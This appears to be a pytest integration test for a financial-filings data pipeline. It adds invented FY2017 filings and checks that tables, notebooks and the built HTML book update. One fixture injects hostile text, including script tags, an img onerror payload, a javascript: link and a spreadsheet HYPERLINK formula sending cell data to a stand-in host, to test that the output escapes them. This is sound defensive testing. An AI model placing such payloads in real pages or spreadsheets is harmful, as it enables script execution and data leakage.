"""Filings for quarters after FY2016 come in by `add`, and everything follows without an edit: tables, notebooks, tests.

The filings are invented, for tests alone, and come into a copy of the project; the project itself sees none of them.
One of them is hostile: its words are markup, formulas and commands.
"""

from __future__ import annotations

import compileall
import csv
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from arriving import INVENTED, ROOT, snapshot
from reading import HANDREAD

from helpers.run import notebook_file
from helpers.run.parameters import INJECTED_TAG
from helpers.run.project import STEPS

ARRIVING = ("2017-11-07_1h17_presentation", "2018-05-15_fy17_release")
OWN_TESTS = (
    "data/test_data",
    "analysis/test_stages",
    "project/test_notebooks_fresh",
    "reading/test_handread",
    "project/test_typed_numbers",
    "project/test_docs",
    "proof/test_checks_ids",
    "analysis/test_errata",
)
HOSTILE = """
(JPY million)

	FY2017
<script>alert("x")</script> revenue	1,234
=HYPERLINK("http://x.invalid/?a="&A1,"x") net sales	2,345
"><img src=x onerror=alert("x")> {{ 7*7 }} ```{raw} html [x](javascript:alert("x")) $x$	3,456
"""
EVIL = ("<script>alert", "<img src=x", 'href="javascript:')


EACH = """
import sys
from helpers.__main__ import main
for name in sys.argv[2:]:
    if main([sys.argv[1], name, "--no-findings"]):
        sys.exit(1)
"""
"""One command for each name, one after the other in one process, whose imports take as long as they do."""


def run(project: Path, *command: str) -> str:
    """What a command in the copy, with the copy's code, says; the test fails with it when the command does."""
    environment = {**os.environ, "PYTHONPATH": str(project / "src")}
    done = subprocess.run(
        [sys.executable, *command], cwd=project, env=environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, f"{' '.join(command)}\n{done.stdout[-4000:]}\n{done.stderr[-4000:]}"
    return done.stdout


def text_of(name: str, folder: Path) -> Path:
    """The invented filing as a file outside the project; the release with hostile words in a table of it."""
    words = (INVENTED / f"{name}.txt").read_text(encoding="utf-8")
    path = folder / f"{name}.txt"
    path.write_text(words + HOSTILE if name.endswith("release") else words, encoding="utf-8")
    return path


def before(project: Path) -> Path:
    """Where the data of the copy are kept as they were before the two filings came."""
    return project.parent / "before"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of what is committed, with two more filings in, after report and refresh.

    Filings that came in since those read by hand are taken out first: one of them may be what is added here.
    """
    copy = tmp_path_factory.mktemp("whole") / "project"
    names = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    for name in filter(None, names.split("\0")):
        if (ROOT / name).is_file():
            (copy / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(ROOT / name, copy / name)
    for command in (("init", "-q"), ("add", "-A")):
        subprocess.run(["git", *command], cwd=copy, check=True)
    compileall.compile_dir(copy / "src", quiet=1)  # once, not in every process
    came_since = {path.stem for path in (copy / "data" / "raw").glob("*.txt")} - set(HANDREAD)
    if came_since:
        run(copy, "-c", EACH, "remove", *sorted(came_since))
        run(copy, "-m", "helpers", "run")
    shutil.copytree(copy / "data", before(copy))
    filed = snapshot(ROOT / "data" / "raw")
    said = run(copy, "-c", EACH, "add", *(str(text_of(name, copy.parent)) for name in ARRIVING))
    assert [f"Added {name}.txt" in said for name in ARRIVING] == [True] * len(ARRIVING)
    run(copy, "-m", "helpers", "report")
    run(copy, "-m", "helpers", "refresh")
    assert snapshot(ROOT / "data" / "raw") == filed
    return copy


def apart(project: Path) -> tuple[str, ...]:
    """Options for a pytest inside this one: its folders are its own."""
    return ("-p", "no:cacheprovider", f"--basetemp={project.parent / 'pytest'}")


def test_the_projects_own_tests_of_its_data_pass_without_an_edit(project: Path) -> None:
    files = [f"tests/{name}.py" for name in OWN_TESTS]
    run(project, "-m", "pytest", "-q", "-n", "0", "-p", "no:nbval", *apart(project), *files)


def outputs(notebook: Path) -> list[tuple[str, list[dict[str, object]]]]:
    """The code cells of a notebook with their outputs, but for what papermill passed in and the cells' numbers."""
    cells = [cell for cell in notebook_file.cells(notebook) if cell["cell_type"] == "code"]
    return [
        ("".join(cell["source"]), [{**output, "execution_count": None} for output in cell["outputs"]])
        for cell in cells
        if INJECTED_TAG not in cell["metadata"].get("tags", ())
    ]


@pytest.mark.parametrize("step", [step.name for step in STEPS])
def test_the_outputs_to_commit_are_those_of_another_run(step: str, project: Path) -> None:
    """`refresh` ran each notebook once more than `report`; pictures are the same byte for byte, too."""
    committed = outputs(project / "notebooks" / f"{step}.ipynb")
    assert any(shown for _, shown in committed)
    assert committed == outputs(project / "build" / "notebooks" / f"{step}.ipynb")


def test_findings_and_book_go_on_to_the_new_periods(project: Path) -> None:
    then, now = (
        pd.read_csv(data / "processed" / "findings.csv", dtype=str, keep_default_na=False).set_index("name")
        for data in (before(project), project / "data")
    )
    assert set(then.index) <= set(now.index), "a finding keeps its name"
    new = now[~now.index.isin(then.index)]
    assert {"trajectory.revenue_cagr_fy2010_fy2017", "targets.operating_income_miss_fy2017"} <= set(new.index)
    assert list(new.index[new["statement"].str.startswith("Unknown")]) == [], "a later one is told when it is known"
    front = (project / "build" / "book" / "index.html").read_text(encoding="utf-8")
    heads = re.findall(r"IIJ by fiscal year.*?<thead>(.*?)</thead>", front, re.DOTALL)
    assert "FY2017" in "".join(heads), "the cover's table has the new year"
    assert "The target for FY2017" not in re.sub(r"<[^>]+>", "", front), "its outcome is known"
    assert all((project / "build" / "book" / "sources" / f"{name}.html").is_file() for name in ARRIVING)


def test_hostile_words_run_nowhere(project: Path) -> None:
    pages = list((project / "build" / "book").rglob("*.html"))
    assert len(pages) > 20
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert not [evil for evil in EVIL if evil in text], path
    with (project / "data" / "processed" / "facts.csv").open(encoding="utf-8", newline="") as file:
        labels = {row["label"] for row in csv.DictReader(file) if row["filing"] == ARRIVING[1]}
    assert any("HYPERLINK" in label for label in labels)
    assert not [label for label in labels if label.startswith(("=", "+", "-", "@"))]


def test_taken_out_again_they_leave_nothing(project: Path) -> None:
    run(project, "-c", EACH, "remove", *ARRIVING)
    assert snapshot(project / "data" / "raw") == snapshot(before(project) / "raw"), "all that tables are made of"
